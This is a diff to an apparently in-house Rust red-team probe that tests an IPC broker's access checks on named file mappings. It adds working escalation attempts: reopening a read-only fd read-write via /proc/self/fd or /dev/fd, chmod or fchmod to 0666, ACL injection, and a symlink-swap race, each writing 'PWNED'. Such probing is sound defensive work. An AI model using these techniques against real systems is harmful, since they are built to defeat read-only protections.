@@ -6,6 +6,22 @@
 //! redteam-probe STEP...
 //!   rw-reopen NAME           OpenFileMapping(FILE_MAP_READ), then reopen the read-only fd
 //!                            through /proc/self/fd read-write and write "PWNED" at offset 0
+//!   devfd-reopen NAME        the same through /dev/fd/N
+//!   fchmod-reopen NAME       the same after fchmod(fd, 0666)
+//!   chmod-reopen NAME        the same after chmod("/proc/self/fd/N", 0666)
+//!   acl-reopen NAME          the same after fsetxattr(fd, "system.posix_acl_access", rw for all)
+//!   acl-path-reopen NAME     the same after setxattr("/proc/self/fd/N", that ACL)
+//!   symlink-race NAME ITERS  a thread swaps $HOME/race-link between a file of the app's own
+//!                            and /proc/self/fd/N while the app chmods race-link 0666 ITERS
+//!                            times, each followed by the read-write reopen
+//!   create-map NAME SDDL     CreateFileMapping(4096 bytes, PAGE_READWRITE) with that descriptor
+//!                            ("-": the default), writes "original" at offset 0, keeps it
+//!   create-file-map NAME SDDL  the same over a memfd of the app's own (a mapping of its file)
+//!   show-map NAME            the first 16 bytes of a mapping this process created
+//!   write-map NAME OFF TEXT  OpenFileMapping(FILE_MAP_READ | FILE_MAP_WRITE), a writable view,
+//!                            TEXT written at OFF through it
+//!   read-map NAME OFF LEN    OpenFileMapping(FILE_MAP_READ), a read-only view, LEN bytes at OFF
+//!   wait-stdin               reads a line from stdin
 //!   why NEEDLE               ListDecisions (everything visible): how many records mention NEEDLE
 //!   follow-leak N PFN        N times: OpenSession, FollowDecisions{package: PFN} on it, close it
 //!   hold S PER SECS          S sessions (OpenSession), PER events created in each (the fds the
@@ -20,9 +36,10 @@
 //! ```
 #![forbid(unsafe_code)]
 
-use std::io::Write;
-use std::os::fd::{AsFd, AsRawFd, OwnedFd};
+use std::io::{BufRead, Write};
+use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd};
 use std::os::unix::fs::FileExt;
+use std::sync::atomic::{AtomicBool, Ordering};
 
 use appipc::Session;
 use appipc_wire::protocol::broker::OpenSession;
@@ -48,34 +65,253 @@ async fn new_session(root: &Session) -> Result<Session, appipc::Error> {
     Session::from_fd(fd)
 }
 
-async fn rw_reopen(s: &Session, name: &str) -> String {
+/// Opens `name` with `FILE_MAP_READ`: the fd and what the handle says of it.
+async fn open_read_only(s: &Session, name: &str) -> Result<(OwnedFd, String), String> {
     let request = no::Open {
         object_type: ObjectType::FileMapping,
         name: name.to_owned(),
         desired_access: 0x4, // FILE_MAP_READ
     };
-    let (h, mut fds) = match s.call_with_fds(request, &[]).await {
-        Ok(x) => x,
-        Err(e) => return code(&e),
-    };
-    let Some(fd) = fds.pop() else { return "no fd".into() };
+    let (h, mut fds) = s.call_with_fds(request, &[]).await.map_err(|e| code(&e))?;
+    let Some(fd) = fds.pop() else { return Err("no fd".into()) };
     let kind = match h.fd {
         HandleFd::ReadOnly => "read-only",
         HandleFd::Object => "object",
         HandleFd::Readiness => "readiness",
         HandleFd::None => "none",
     };
-    let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
-    match std::fs::OpenOptions::new().read(true).write(true).open(&path) {
-        Err(e) => format!("granted {:#x} fd {kind}; reopen-rw refused: {e}", h.granted_access),
+    Ok((fd, format!("granted {:#x} fd {kind}", h.granted_access)))
+}
+
+/// Opens `path` (a name of the fd) read-write and writes "PWNED" at offset 0.
+fn reopen_and_write(path: &str) -> String {
+    match std::fs::OpenOptions::new().read(true).write(true).open(path) {
+        Err(e) => format!("reopen-rw refused: {e}"),
         Ok(f) => match f.write_at(b"PWNED", 0) {
-            Ok(n) => format!("granted {:#x} fd {kind}; reopen-rw ok, wrote {n}", h.granted_access),
-            Err(e) => format!(
-                "granted {:#x} fd {kind}; reopen-rw ok, write failed: {e}",
-                h.granted_access
-            ),
+            Ok(n) => format!("reopen-rw ok, wrote {n}"),
+            Err(e) => format!("reopen-rw ok, write failed: {e}"),
         },
     }
+}
+
+fn proc_fd(fd: BorrowedFd<'_>) -> String {
+    format!("/proc/self/fd/{}", fd.as_raw_fd())
+}
+
+/// An access ACL (`system.posix_acl_access`, version 2) granting read and write to the owner,
+/// the group, uid 1000, the mask and everyone else.
+fn acl_read_write_for_all() -> Vec<u8> {
+    let mut v = 2u32.to_le_bytes().to_vec();
+    // (tag, perm, id): USER_OBJ, USER 1000, GROUP_OBJ, MASK, OTHER.
+    for (tag, id) in
+        [(0x01u16, u32::MAX), (0x02, 1000), (0x04, u32::MAX), (0x10, u32::MAX), (0x20, u32::MAX)]
+    {
+        v.extend_from_slice(&tag.to_le_bytes());
+        v.extend_from_slice(&6u16.to_le_bytes());
+        v.extend_from_slice(&id.to_le_bytes());
+    }
+    v
+}
+
+fn errno_text(r: rustix::io::Result<()>) -> String {
+    match r {
+        Ok(()) => "ok".into(),
+        Err(e) => std::io::Error::from(e).to_string(),
+    }
+}
+
+/// `OpenFileMapping(FILE_MAP_READ)`, then `how` tries to make the fd writable and the
+/// reopen-and-write follows through `/proc/self/fd` (or `/dev/fd` for "devfd").
+async fn attack(s: &Session, name: &str, how: &str) -> String {
+    let (fd, granted) = match open_read_only(s, name).await {
+        Ok(x) => x,
+        Err(e) => return e,
+    };
+    let path = proc_fd(fd.as_fd());
+    let step = match how {
+        "proc" => String::new(),
+        "devfd" => {
+            let dev = format!("/dev/fd/{}", fd.as_raw_fd());
+            return format!("{granted}; {}", reopen_and_write(&dev));
+        }
+        "fchmod" => format!(
+            "fchmod: {}; ",
+            errno_text(rustix::fs::fchmod(&fd, rustix::fs::Mode::from_raw_mode(0o666)))
+        ),
+        "chmod" => format!(
+            "chmod {path}: {}; ",
+            errno_text(rustix::fs::chmod(path.as_str(), rustix::fs::Mode::from_raw_mode(0o666)))
+        ),
+        "acl" => format!(
+            "fsetxattr acl: {}; ",
+            errno_text(rustix::fs::fsetxattr(
+                &fd,
+                "system.posix_acl_access",
+                &acl_read_write_for_all(),
+                rustix::fs::XattrFlags::empty()
+            ))
+        ),
+        "acl-path" => format!(
+            "setxattr acl {path}: {}; ",
+            errno_text(rustix::fs::setxattr(
+                path.as_str(),
+                "system.posix_acl_access",
+                &acl_read_write_for_all(),
+                rustix::fs::XattrFlags::empty()
+            ))
+        ),
+        other => return format!("unknown attack {other}"),
+    };
+    format!("{granted}; {step}{}", reopen_and_write(&path))
+}
+
+/// A thread swaps `$HOME/race-link` between a file of the app's own and `/proc/self/fd/N`
+/// (rename over it, so the link always exists) while this one chmods the link and tries the
+/// read-write reopen after each chmod.
+async fn symlink_race(s: &Session, name: &str, iters: usize) -> String {
+    let (fd, granted) = match open_read_only(s, name).await {
+        Ok(x) => x,
+        Err(e) => return e,
+    };
+    let home = std::env::var("HOME").unwrap_or_else(|_| ".".into());
+    let file = format!("{home}/race-target");
+    let link = format!("{home}/race-link");
+    if let Err(e) = std::fs::write(&file, b"the app's own") {
+        return format!("write {file}: {e}");
+    }
+    let memfd = proc_fd(fd.as_fd());
+    let _ = std::fs::remove_file(&link);
+    if let Err(e) = std::os::unix::fs::symlink("race-target", &link) {
+        return format!("symlink {link}: {e}");
+    }
+    let stop = std::sync::Arc::new(AtomicBool::new(false));
+    let swapper = {
+        let (stop, link, memfd) = (stop.clone(), link.clone(), memfd.clone());
+        std::thread::spawn(move || {
+            let tmp = format!("{link}.tmp");
+            let mut n = 0u64;
+            while !stop.load(Ordering::Relaxed) {
+                let to = if n.is_multiple_of(2) { "race-target" } else { memfd.as_str() };
+                let _ = std::fs::remove_file(&tmp);
+                if std::os::unix::fs::symlink(to, &tmp).is_ok() {
+                    let _ = std::fs::rename(&tmp, &link);
+                }
+                n += 1;
+            }
+            n
+        })
+    };
+    let (mut changed, mut refused, mut other) = (0usize, 0usize, 0usize);
+    let mut wrote = None;
+    for _ in 0..iters {
+        match rustix::fs::chmod(link.as_str(), rustix::fs::Mode::from_raw_mode(0o666)) {
+            Ok(()) => changed += 1,
+            Err(rustix::io::Errno::PERM) => refused += 1,
+            Err(_) => other += 1,
+        }
+        let r = reopen_and_write(&memfd);
+        if !r.contains("refused") {
+            wrote = Some(r);
+            break;
+        }
+    }
+    stop.store(true, Ordering::Relaxed);
+    let swaps = swapper.join().unwrap_or(0);
+    let file_mode = std::fs::metadata(&file).map(|m| {
+        use std::os::unix::fs::PermissionsExt;
+        format!("{:o}", m.permissions().mode() & 0o7777)
+    });
+    format!(
+        "{granted}; {swaps} swaps, {changed} chmods done, {refused} refused (EPERM), {other} other \
+         errors; the app's file is now {file_mode:?}; {}",
+        wrote.unwrap_or_else(|| "reopen-rw refused every time".into())
+    )
+}
+
+/// Mappings this process created, kept open for the whole run.
+type Kept = Vec<(String, OwnedFd)>;
+
+async fn create_map(
+    s: &Session,
+    kept: &mut Kept,
+    name: &str,
+    sddl: &str,
+    own_file: bool,
+) -> String {
+    let sddl = (sddl != "-").then(|| sddl.to_owned());
+    let (kind, backing) = if own_file {
+        let memfd = match rustix::fs::memfd_create("own", rustix::fs::MemfdFlags::CLOEXEC) {
+            Ok(f) => f,
+            Err(e) => return format!("memfd_create: {e}"),
+        };
+        if let Err(e) = rustix::fs::ftruncate(&memfd, 4096) {
+            return format!("ftruncate: {e}");
+        }
+        (NamedObjectKind::FileMappingOfFile { writable: true }, Some(memfd))
+    } else {
+        (NamedObjectKind::FileMapping { size: 4096, writable: true }, None)
+    };
+    let request = no::Create { kind, name: name.to_owned(), sddl };
+    let fds: Vec<BorrowedFd<'_>> = backing.iter().map(|f| f.as_fd()).collect();
+    let (_h, mut got) = match s.call_with_fds(request, &fds).await {
+        Ok(x) => x,
+        Err(e) => return code(&e),
+    };
+    let Some(fd) = got.pop() else { return "no fd".into() };
+    let file = std::fs::File::from(fd);
+    if let Err(e) = file.write_at(b"original", 0) {
+        return format!("writing: {e}");
+    }
+    kept.push((name.to_owned(), file.into()));
+    "created, wrote \"original\"".into()
+}
+
+fn show_map(kept: &Kept, name: &str) -> String {
+    let Some((_, fd)) = kept.iter().find(|(n, _)| n == name) else { return "not kept".into() };
+    let mut buf = [0u8; 16];
+    match rustix::io::pread(fd, &mut buf, 0) {
+        Ok(n) => format!("{:?}", String::from_utf8_lossy(&buf[..n])),
+        Err(e) => format!("pread: {e}"),
+    }
+}
+
+async fn write_map(s: &Session, name: &str, offset: usize, text: &str) -> String {
+    let request = no::Open {
+        object_type: ObjectType::FileMapping,
+        name: name.to_owned(),
+        desired_access: 0x6, // FILE_MAP_READ | FILE_MAP_WRITE
+    };
+    let (h, mut fds) = match s.call_with_fds(request, &[]).await {
+        Ok(x) => x,
+        Err(e) => return code(&e),
+    };
+    let Some(fd) = fds.pop() else { return "no fd".into() };
+    let len = usize::try_from(h.size).unwrap_or(0);
+    let mut view = match appipc_sys::memfd::SharedView::map(&fd, len, true) {
+        Ok(v) => v,
+        Err(e) => return format!("granted {:#x}; writable view refused: {e}", h.granted_access),
+    };
+    let Some(bytes) = view.as_bytes_mut() else { return "read-only view".into() };
+    if offset + text.len() > bytes.len() {
+        return "out of range".into();
+    }
+    bytes[offset..offset + text.len()].copy_from_slice(text.as_bytes());
+    format!("granted {:#x}; wrote {} bytes through a writable view", h.granted_access, text.len())
+}
+
+async fn read_map(s: &Session, name: &str, offset: usize, len: usize) -> String {
+    let (fd, granted) = match open_read_only(s, name).await {
+        Ok(x) => x,
+        Err(e) => return e,
+    };
+    let size = rustix::fs::fstat(&fd).map(|st| st.st_size as usize).unwrap_or(0);
+    let view = match appipc_sys::memfd::SharedView::map(&fd, size, false) {
+        Ok(v) => v,
+        Err(e) => return format!("{granted}; read-only view refused: {e}"),
+    };
+    let bytes = view.as_bytes();
+    let end = (offset + len).min(bytes.len());
+    format!("{granted}; read {:?}", String::from_utf8_lossy(&bytes[offset.min(end)..end]))
 }
 
 async fn why(s: &Session, needle: &str) -> String {
@@ -239,9 +475,10 @@ async fn list_packages(s: &Session) -> String {
 
 fn arity(verb: &str) -> usize {
     match verb {
-        "rw-reopen" | "why" | "fifo-redeem" | "sleep" => 2,
-        "follow-leak" => 3,
-        "hold" => 4,
+        "rw-reopen" | "devfd-reopen" | "fchmod-reopen" | "chmod-reopen" | "acl-reopen"
+        | "acl-path-reopen" | "show-map" | "why" | "fifo-redeem" | "sleep" => 2,
+        "follow-leak" | "symlink-race" | "create-map" | "create-file-map" => 3,
+        "hold" | "write-map" | "read-map" => 4,
         _ => 1,
     }
 }
@@ -251,6 +488,7 @@ fn main() {
     let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
     rt.block_on(async {
         let session = Session::connect().await.expect("connecting to the broker");
+        let mut kept = Kept::new();
         let mut i = 0;
         while i < args.len() {
             let n = arity(&args[i]);
@@ -260,7 +498,31 @@ fn main() {
             }
             let w = &args[i..i + n];
             let result = match w[0].as_str() {
-                "rw-reopen" => rw_reopen(&session, &w[1]).await,
+                "rw-reopen" => attack(&session, &w[1], "proc").await,
+                "devfd-reopen" => attack(&session, &w[1], "devfd").await,
+                "fchmod-reopen" => attack(&session, &w[1], "fchmod").await,
+                "chmod-reopen" => attack(&session, &w[1], "chmod").await,
+                "acl-reopen" => attack(&session, &w[1], "acl").await,
+                "acl-path-reopen" => attack(&session, &w[1], "acl-path").await,
+                "symlink-race" => symlink_race(&session, &w[1], w[2].parse().expect("ITERS")).await,
+                "create-map" => create_map(&session, &mut kept, &w[1], &w[2], false).await,
+                "create-file-map" => create_map(&session, &mut kept, &w[1], &w[2], true).await,
+                "show-map" => show_map(&kept, &w[1]),
+                "write-map" => write_map(&session, &w[1], w[2].parse().expect("OFF"), &w[3]).await,
+                "read-map" => {
+                    read_map(
+                        &session,
+                        &w[1],
+                        w[2].parse().expect("OFF"),
+                        w[3].parse().expect("LEN"),
+                    )
+                    .await
+                }
+                "wait-stdin" => {
+                    let mut line = String::new();
+                    let _ = std::io::stdin().lock().read_line(&mut line);
+                    "continued".into()
+                }
                 "why" => why(&session, &w[1]).await,
                 "follow-leak" => follow_leak(&session, w[1].parse().expect("N"), &w[2]).await,
                 "hold" => {
